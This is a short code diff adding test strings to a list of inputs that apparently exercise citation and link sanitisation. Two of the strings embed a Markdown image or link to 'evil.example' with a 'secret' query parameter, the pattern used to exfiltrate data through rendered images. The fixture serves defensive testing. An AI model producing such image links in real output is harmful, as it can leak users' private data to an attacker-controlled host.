@@ -25,6 +25,9 @@ LINKS = (
     "A dog <!-- secret [9] --> runs [1].",
     "A `dog` costs $5 [9], and 3 < 4 [1, 9] (or so) [9]. Wow! [2][1](https://evil.example/?q=secret) Yes!",
     "[9] A dog runs [1][9]. It is ![1] here: [1]: no.",
+    "A dog [1 and 9] runs. And a cat [1, 9] too, [1、9]",
+    "Use `<div class>` here [1]. See $x <y z$ ok, and \\(a <b c\\) [1]",
+    "So ![a b](https://evil.example/?q=secret) A dog [1]",
 )
 
 
